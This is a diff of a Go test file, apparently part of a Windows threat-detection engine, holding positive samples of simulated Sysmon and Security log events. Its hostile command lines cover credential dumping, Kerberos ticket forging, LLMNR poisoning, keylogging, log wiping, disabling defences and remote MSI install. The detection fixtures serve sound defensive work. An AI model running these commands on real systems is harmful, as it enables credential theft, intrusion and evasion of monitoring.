@@ -8,970 +8,1387 @@ package detect
 func init() {
 	rulePositives = append(rulePositives, []ruleSample{
 		{
-			ID: "fd72b5b5-cbc5-5edf-9a36-38f59d6eaf85", // Cached Domain Credentials Read From the Registry or With Mimikatz
+			ID:      "fd72b5b5-cbc5-5edf-9a36-38f59d6eaf85", // Cached Domain Credentials Read From the Registry or With Mimikatz
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\reg.exe",
-			"CommandLine": "reg save HKLM\\SECURITY\\Cache C:\\Users\\Public\\c.hiv",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\reg.exe",
+				"CommandLine": "reg save HKLM\\SECURITY\\Cache C:\\Users\\Public\\c.hiv",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "cad87ff6-89ad-5bea-9973-875baf8f8d96", // SAM Account Database Opened by a Non-System Process
+			ID:      "cad87ff6-89ad-5bea-9973-875baf8f8d96", // SAM Account Database Opened by a Non-System Process
 			Channel: "Security", EventID: 4663,
 			Fields: map[string]string{
-			"EventID": "4663",
-			"ObjectType": "Key",
-			"ObjectName": "\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account\\Users",
-			"ProcessName": "C:\\Users\\Public\\dump.exe",
+				"EventID":     "4663",
+				"ObjectType":  "Key",
+				"ObjectName":  "\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account\\Users",
+				"ProcessName": "C:\\Users\\Public\\dump.exe",
 			},
 		},
 		{
-			ID: "74c6cdd9-9a55-595f-9fce-320c1446a043", // Files Searched for Passwords From the Command Line
+			ID:      "74c6cdd9-9a55-595f-9fce-320c1446a043", // Files Searched for Passwords From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\findstr.exe",
-			"CommandLine": "findstr /si password *.xml *.ini *.txt *.config",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\findstr.exe",
+				"CommandLine": "findstr /si password *.xml *.ini *.txt *.config",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "77f18b38-68b3-547a-bba0-1e63d58d949f", // Registry Searched for Stored Passwords
+			ID:      "77f18b38-68b3-547a-bba0-1e63d58d949f", // Registry Searched for Stored Passwords
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\reg.exe",
-			"CommandLine": "reg query HKLM /f password /t REG_SZ /s",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\reg.exe",
+				"CommandLine": "reg query HKLM /f password /t REG_SZ /s",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "a8266518-f949-5dc7-a365-b55f50f2c585", // Certificate Private Key Exported From the Command Line
+			ID:      "a8266518-f949-5dc7-a365-b55f50f2c585", // Certificate Private Key Exported From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-			"CommandLine": "powershell Export-PfxCertificate -Cert Cert:\\CurrentUser\\My\\1A2B -FilePath C:\\Users\\Public\\c.pfx -Password $p",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"CommandLine": "powershell Export-PfxCertificate -Cert Cert:\\CurrentUser\\My\\1A2B -FilePath C:\\Users\\Public\\c.pfx -Password $p",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "39268433-21eb-5921-a7dc-af3f7d868d5a", // Group Policy Preference Passwords Searched
+			ID:      "39268433-21eb-5921-a7dc-af3f7d868d5a", // Group Policy Preference Passwords Searched
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\findstr.exe",
-			"CommandLine": "findstr /S /I cpassword \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\findstr.exe",
+				"CommandLine": "findstr /S /I cpassword \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "b5d01226-ef14-51d4-b9c0-e175946a32c8", // Group Policy Preference Password Decryption in a Script Block
+			ID:      "b5d01226-ef14-51d4-b9c0-e175946a32c8", // Group Policy Preference Password Decryption in a Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "$Xml.DocumentElement.Groups.User | % { $_.Properties.cpassword }",
+				"ScriptBlockText": "$Xml.DocumentElement.Groups.User | % { $_.Properties.cpassword }",
 			},
 		},
 		{
-			ID: "18f872fd-1793-5e2c-82a6-471cba9efebd", // Browser Password Store Opened by Another Program
+			ID:      "18f872fd-1793-5e2c-82a6-471cba9efebd", // Browser Password Store Opened by Another Program
 			Channel: "Security", EventID: 4663,
 			Fields: map[string]string{
-			"EventID": "4663",
-			"ObjectName": "C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
-			"ProcessName": "C:\\Users\\bob\\AppData\\Local\\Temp\\s.exe",
+				"EventID":     "4663",
+				"ObjectName":  "C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
+				"ProcessName": "C:\\Users\\bob\\AppData\\Local\\Temp\\s.exe",
 			},
 		},
 		{
-			ID: "e0f97bd3-8a65-59ef-ae79-31b972d0c58f", // Browser Cookie Store Opened by Another Program
+			ID:      "e0f97bd3-8a65-59ef-ae79-31b972d0c58f", // Browser Cookie Store Opened by Another Program
 			Channel: "Security", EventID: 4663,
 			Fields: map[string]string{
-			"EventID": "4663",
-			"ObjectName": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies",
-			"ProcessName": "C:\\ProgramData\\u.exe",
+				"EventID":     "4663",
+				"ObjectName":  "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies",
+				"ProcessName": "C:\\ProgramData\\u.exe",
 			},
 		},
 		{
-			ID: "e1f8978a-2deb-57be-9d56-d8a6974d40d8", // Password Manager Database Opened by Another Program
+			ID:      "e1f8978a-2deb-57be-9d56-d8a6974d40d8", // Password Manager Database Opened by Another Program
 			Channel: "Security", EventID: 4663,
 			Fields: map[string]string{
-			"EventID": "4663",
-			"ObjectName": "C:\\Users\\bob\\Documents\\vault.kdbx",
-			"ProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"EventID":     "4663",
+				"ObjectName":  "C:\\Users\\bob\\Documents\\vault.kdbx",
+				"ProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
 			},
 		},
 		{
-			ID: "a90b789d-95aa-5a8c-85ec-c560a3606bf4", // Kerberos Golden Ticket Forged on the Command Line
+			ID:      "a90b789d-95aa-5a8c-85ec-c560a3606bf4", // Kerberos Golden Ticket Forged on the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Users\\Public\\m.exe",
-			"CommandLine": "m.exe \"kerberos::golden /user:admin /domain:corp.local /sid:S-1-5-21-1-2-3 /krbtgt:8846f7eaee8fb117ad06bdd830b7586c /ptt\" exit",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Users\\Public\\m.exe",
+				"CommandLine": "m.exe \"kerberos::golden /user:admin /domain:corp.local /sid:S-1-5-21-1-2-3 /krbtgt:8846f7eaee8fb117ad06bdd830b7586c /ptt\" exit",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "0f4402f8-68fd-53e2-819e-a534df2a4d38", // Kerberos Silver Ticket Forged on the Command Line
+			ID:      "0f4402f8-68fd-53e2-819e-a534df2a4d38", // Kerberos Silver Ticket Forged on the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Users\\Public\\r.exe",
-			"CommandLine": "r.exe silver /service:cifs/fs01.corp.local /rc4:8846f7eaee8fb117ad06bdd830b7586c /user:admin /domain:corp.local /sid:S-1-5-21-1-2-3 /ptt",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Users\\Public\\r.exe",
+				"CommandLine": "r.exe silver /service:cifs/fs01.corp.local /rc4:8846f7eaee8fb117ad06bdd830b7586c /user:admin /domain:corp.local /sid:S-1-5-21-1-2-3 /ptt",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "8b6470d6-09ba-5d90-a1e4-641d3910c4b2", // Skeleton Key Patched Into LSASS
+			ID:      "8b6470d6-09ba-5d90-a1e4-641d3910c4b2", // Skeleton Key Patched Into LSASS
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Users\\Public\\m.exe",
-			"CommandLine": "m.exe privilege::debug misc::skeleton exit",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Users\\Public\\m.exe",
+				"CommandLine": "m.exe privilege::debug misc::skeleton exit",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "1739af26-36cc-5810-8b33-d862ed69820d", // LLMNR/NBT-NS Poisoning Tool Run From PowerShell
+			ID:      "1739af26-36cc-5810-8b33-d862ed69820d", // LLMNR/NBT-NS Poisoning Tool Run From PowerShell
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Invoke-Inveigh -LLMNR Y -NBNS Y -ConsoleOutput Y -FileOutput Y",
+				"ScriptBlockText": "Invoke-Inveigh -LLMNR Y -NBNS Y -ConsoleOutput Y -FileOutput Y",
 			},
 		},
 		{
-			ID: "09cae616-3ccd-51b2-a61d-b6e9a3d7d6b2", // LLMNR/NBT-NS Poisoning Tool on the Command Line
+			ID:      "09cae616-3ccd-51b2-a61d-b6e9a3d7d6b2", // LLMNR/NBT-NS Poisoning Tool on the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Users\\Public\\Inveigh.exe",
-			"CommandLine": "Inveigh.exe -NBNS Y -LLMNR Y",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Users\\Public\\Inveigh.exe",
+				"CommandLine": "Inveigh.exe -NBNS Y -LLMNR Y",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "49af547e-dd30-566a-9396-d64ed3bede57", // Keystroke Capture APIs Used in a PowerShell Script Block
+			ID:      "49af547e-dd30-566a-9396-d64ed3bede57", // Keystroke Capture APIs Used in a PowerShell Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "$s = [API.Win32]::GetAsyncKeyState($i); if ($s -eq -32767) { $log += [char]$i }",
+				"ScriptBlockText": "$s = [API.Win32]::GetAsyncKeyState($i); if ($s -eq -32767) { $log += [char]$i }",
 			},
 		},
 		{
-			ID: "3addf699-ef58-5684-87a3-8cb94b35328c", // Certificate Template Abuse or Certificate Forgery Tool
+			ID:      "3addf699-ef58-5684-87a3-8cb94b35328c", // Certificate Template Abuse or Certificate Forgery Tool
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Users\\Public\\c.exe",
-			"CommandLine": "c.exe request /ca:ca01.corp.local\\corp-CA /template:VulnUser /altname:administrator",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Users\\Public\\c.exe",
+				"CommandLine": "c.exe request /ca:ca01.corp.local\\corp-CA /template:VulnUser /altname:administrator",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "d1135ca3-ecd8-518a-8fd3-6d0ece920a28", // NTDS.dit Copied or Read by a Command or Script
+			ID:      "d1135ca3-ecd8-518a-8fd3-6d0ece920a28", // NTDS.dit Copied or Read by a Command or Script
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\cmd.exe",
-			"CommandLine": "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\Users\\Public\\n.dit",
-			"ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"CommandLine": "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\Users\\Public\\n.dit",
+				"ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
 			},
 		},
 		{
-			ID: "b3a2fbe1-c7dc-5215-a587-a5eb5eedac02", // NTDS.dit Read in a PowerShell Script Block
+			ID:      "b3a2fbe1-c7dc-5215-a587-a5eb5eedac02", // NTDS.dit Read in a PowerShell Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Invoke-NinjaCopy -Path \"C:\\Windows\\NTDS\\ntds.dit\" -LocalDestination \"C:\\Users\\Public\\ntds.dit\"",
+				"ScriptBlockText": "Invoke-NinjaCopy -Path \"C:\\Windows\\NTDS\\ntds.dit\" -LocalDestination \"C:\\Users\\Public\\ntds.dit\"",
 			},
 		},
 		{
-			ID: "19b89ca7-cd7e-5b9f-89ee-cc444980c4d2", // Files Securely Deleted With SDelete
+			ID:      "19b89ca7-cd7e-5b9f-89ee-cc444980c4d2", // Files Securely Deleted With SDelete
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Users\\Public\\sdelete64.exe",
-			"CommandLine": "sdelete64.exe -accepteula -p 3 C:\\Users\\Public\\tools\\*.exe",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Users\\Public\\sdelete64.exe",
+				"CommandLine": "sdelete64.exe -accepteula -p 3 C:\\Users\\Public\\tools\\*.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "e0e96970-a167-551c-bc2e-cf80616fb501", // Script Host or User-Path Program Deletes an Executable
+			ID:      "e0e96970-a167-551c-bc2e-cf80616fb501", // Script Host or User-Path Program Deletes an Executable
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 23,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\cmd.exe",
-			"TargetFilename": "C:\\Users\\Public\\stage2.exe",
+				"Image":          "C:\\Windows\\System32\\cmd.exe",
+				"TargetFilename": "C:\\Users\\Public\\stage2.exe",
 			},
 		},
 		{
-			ID: "e0e96970-a167-551c-bc2e-cf80616fb501", // Script Host or User-Path Program Deletes an Executable
+			ID:      "e0e96970-a167-551c-bc2e-cf80616fb501", // Script Host or User-Path Program Deletes an Executable
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 26,
 			Fields: map[string]string{
-			"Image": "C:\\ProgramData\\svc.exe",
-			"TargetFilename": "C:\\ProgramData\\svc.dll",
+				"Image":          "C:\\ProgramData\\svc.exe",
+				"TargetFilename": "C:\\ProgramData\\svc.dll",
 			},
 		},
 		{
-			ID: "7bff984a-6041-596e-93c3-88abf5e819ad", // Network Share Connection Removed From the Command Line
+			ID:      "7bff984a-6041-596e-93c3-88abf5e819ad", // Network Share Connection Removed From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\net.exe",
-			"CommandLine": "net use \\\\10.0.0.5\\C$ /delete",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\net.exe",
+				"CommandLine": "net use \\\\10.0.0.5\\C$ /delete",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "b893e953-8c2f-590e-8fe5-0bee45a5b559", // File Creation Time Changed by a Script Host or User-Path Program
+			ID:      "b893e953-8c2f-590e-8fe5-0bee45a5b559", // File Creation Time Changed by a Script Host or User-Path Program
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 2,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-			"TargetFilename": "C:\\Windows\\System32\\wlbsctrl.dll",
-			"CreationUtcTime": "2015-07-10 11:00:00.000",
-			"PreviousCreationUtcTime": "2026-12-01 09:12:00.000",
+				"Image":                   "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"TargetFilename":          "C:\\Windows\\System32\\wlbsctrl.dll",
+				"CreationUtcTime":         "2015-07-10 11:00:00.000",
+				"PreviousCreationUtcTime": "2026-12-01 09:12:00.000",
 			},
 		},
 		{
-			ID: "71807109-9112-562b-a425-b4928447ae75", // PowerShell Command History Deleted
+			ID:      "71807109-9112-562b-a425-b4928447ae75", // PowerShell Command History Deleted
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-			"CommandLine": "powershell Remove-Item (Get-PSReadlineOption).HistorySavePath",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"CommandLine": "powershell Remove-Item (Get-PSReadlineOption).HistorySavePath",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "fb07ebd6-7387-572f-b55f-498ed95d9888", // PowerShell Command History Deleted in a Script Block
+			ID:      "fb07ebd6-7387-572f-b55f-498ed95d9888", // PowerShell Command History Deleted in a Script Block
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Remove-Item (Get-PSReadlineOption).HistorySavePath -Force",
+				"ScriptBlockText": "Remove-Item (Get-PSReadlineOption).HistorySavePath -Force",
 			},
 		},
 		{
-			ID: "561ad536-0c6a-5a21-9bbb-ef9ed8c0a935", // PowerShell Command History Logging Turned Off
+			ID:      "561ad536-0c6a-5a21-9bbb-ef9ed8c0a935", // PowerShell Command History Logging Turned Off
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
-			"ScriptBlockText": "Set-PSReadlineOption -HistorySaveStyle SaveNothing",
+				"ScriptBlockText": "Set-PSReadlineOption -HistorySaveStyle SaveNothing",
 			},
 		},
 		{
-			ID: "889bbaf8-1356-5940-b2d0-7af65a842a75", // Windows Firewall Disabled or Opened From the Command Line
+			ID:      "889bbaf8-1356-5940-b2d0-7af65a842a75", // Windows Firewall Disabled or Opened From the Command Line
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\netsh.exe",
-			"CommandLine": "netsh advfirewall set allprofiles state off",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\netsh.exe",
+				"CommandLine": "netsh advfirewall set allprofiles state off",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "0c38f9a1-d0a1-5cb9-8140-f0b01d7aced0", // Event Tracing Disabled for .NET or an Event Log Provider
+			ID:      "0c38f9a1-d0a1-5cb9-8140-f0b01d7aced0", // Event Tracing Disabled for .NET or an Event Log Provider
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\cmd.exe",
-			"CommandLine": "cmd /c set COMPlus_ETWEnabled=0 && powershell.exe",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"CommandLine": "cmd /c set COMPlus_ETWEnabled=0 && powershell.exe",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "a28e1dea-6b30-507a-9fc1-41f638f264ac", // .NET Event Tracing Disabled in the Registry
+			ID:      "a28e1dea-6b30-507a-9fc1-41f638f264ac", // .NET Event Tracing Disabled in the Registry
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\reg.exe",
-			"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\.NETFramework\\ETWEnabled",
-			"Details": "DWORD (0x00000000)",
+				"Image":        "C:\\Windows\\System32\\reg.exe",
+				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\.NETFramework\\ETWEnabled",
+				"Details":      "DWORD (0x00000000)",
 			},
 		},
 		{
-			ID: "fef78b94-d5cc-5270-b901-cec80f7f2b87", // Next Boot Set to Safe Mode
+			ID:      "fef78b94-d5cc-5270-b901-cec80f7f2b87", // Next Boot Set to Safe Mode
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\bcdedit.exe",
-			"CommandLine": "bcdedit /set {current} safeboot network",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\bcdedit.exe",
+				"CommandLine": "bcdedit /set {current} safeboot network",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "793433b2-e299-532a-a621-bf37f5d2291c", // PowerShell Started in Version 2
+			ID:      "793433b2-e299-532a-a621-bf37f5d2291c", // PowerShell Started in Version 2
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-			"CommandLine": "powershell.exe -version 2 -nop -c \"IEX $s\"",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"CommandLine": "powershell.exe -version 2 -nop -c \"IEX $s\"",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "7c6e3395-6e9f-5b0d-a4a3-b2f03334758e", // Executable or Script Hidden With attrib
+			ID:      "7c6e3395-6e9f-5b0d-a4a3-b2f03334758e", // Executable or Script Hidden With attrib
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\attrib.exe",
-			"CommandLine": "attrib +h +s C:\\ProgramData\\svc\\updater.exe",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\attrib.exe",
+				"CommandLine": "attrib +h +s C:\\ProgramData\\svc\\updater.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "421967cd-b5a3-5ca0-bd33-2515f18830a5", // Account Hidden From the Logon Screen
+			ID:      "421967cd-b5a3-5ca0-bd33-2515f18830a5", // Account Hidden From the Logon Screen
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\reg.exe",
-			"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList\\support$",
-			"Details": "DWORD (0x00000000)",
+				"Image":        "C:\\Windows\\System32\\reg.exe",
+				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList\\support$",
+				"Details":      "DWORD (0x00000000)",
 			},
 		},
 		{
-			ID: "efcaf5db-4a07-5963-9183-578748c129ab", // Executable Content Written to an Alternate Data Stream
+			ID:      "efcaf5db-4a07-5963-9183-578748c129ab", // Executable Content Written to an Alternate Data Stream
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 15,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\cmd.exe",
-			"TargetFilename": "C:\\Users\\Public\\readme.txt:payload.exe",
+				"Image":          "C:\\Windows\\System32\\cmd.exe",
+				"TargetFilename": "C:\\Users\\Public\\readme.txt:payload.exe",
 			},
 		},
 		{
-			ID: "f9b93670-979b-5ee5-9a15-e522bd502bfd", // Windows Utility Running Under Another File Name
+			ID:      "f9b93670-979b-5ee5-9a15-e522bd502bfd", // Windows Utility Running Under Another File Name
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Users\\Public\\svchost32.exe",
-			"OriginalFileName": "Cmd.Exe",
-			"CommandLine": "svchost32.exe /c whoami",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":            "C:\\Users\\Public\\svchost32.exe",
+				"OriginalFileName": "Cmd.Exe",
+				"CommandLine":      "svchost32.exe /c whoami",
+				"ParentImage":      "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "39456b30-9613-583f-abaf-e0a034167741", // File Name With a Right-to-Left Override Character
+			ID:      "39456b30-9613-583f-abaf-e0a034167741", // File Name With a Right-to-Left Override Character
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Users\\bob\\Downloads\\invoice\u202egpj.exe",
-			"CommandLine": "\"C:\\Users\\bob\\Downloads\\invoice\u202egpj.exe\"",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Users\\bob\\Downloads\\invoice\u202egpj.exe",
+				"CommandLine": "\"C:\\Users\\bob\\Downloads\\invoice\u202egpj.exe\"",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "dfadf0e5-9542-5d33-8b87-d76b03a1c49c", // Command Line Obfuscated With Carets or Environment Substrings
+			ID:      "dfadf0e5-9542-5d33-8b87-d76b03a1c49c", // Command Line Obfuscated With Carets or Environment Substrings
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\cmd.exe",
-			"CommandLine": "cmd /c p^o^w^e^r^s^h^e^l^l -nop -c whoami",
-			"ParentImage": "C:\\Windows\\explorer.exe",
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"CommandLine": "cmd /c p^o^w^e^r^s^h^e^l^l -nop -c whoami",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 		{
-			ID: "a314795e-76d3-518a-b217-c0e6354aa27c", // Msiexec Installs a Package From a URL or Runs a DLL
+			ID:      "a314795e-76d3-518a-b217-c0e6354aa27c", // Msiexec Installs a Package From a URL or Runs a DLL
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\msiexec.exe",
-			"CommandLine": "msiexec /q /i http://203.0.113.9/pkg.msi",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\msiexec.exe",
+				"CommandLine": "msiexec /q /i http://203.0.113.9/pkg.msi",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "9374a9dd-0cb0-57fd-866f-da4be87156e6", // Odbcconf Registers a DLL or Runs a Response File
+			ID:      "9374a9dd-0cb0-57fd-866f-da4be87156e6", // Odbcconf Registers a DLL or Runs a Response File
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\System32\\odbcconf.exe",
-			"CommandLine": "odbcconf.exe /a {REGSVR C:\\Users\\Public\\x.dll}",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\System32\\odbcconf.exe",
+				"CommandLine": "odbcconf.exe /a {REGSVR C:\\Users\\Public\\x.dll}",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
-			ID: "8d8e3793-7ebb-56fb-8149-6b1dd3b24c78", // RegAsm or RegSvcs Loads an Assembly From a User-Writable Path
+			ID:      "8d8e3793-7ebb-56fb-8149-6b1dd3b24c78", // RegAsm or RegSvcs Loads an Assembly From a User-Writable Path
 			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
 			Fields: map[string]string{
-			"Image": "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe",
-			"CommandLine": "RegAsm.exe /U C:\\Users\\Public\\payload.dll",
-			"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+				"Image":       "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe",
+				"CommandLine": "RegAsm.exe /U C:\\Users\\Public\\payload.dll",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 		{
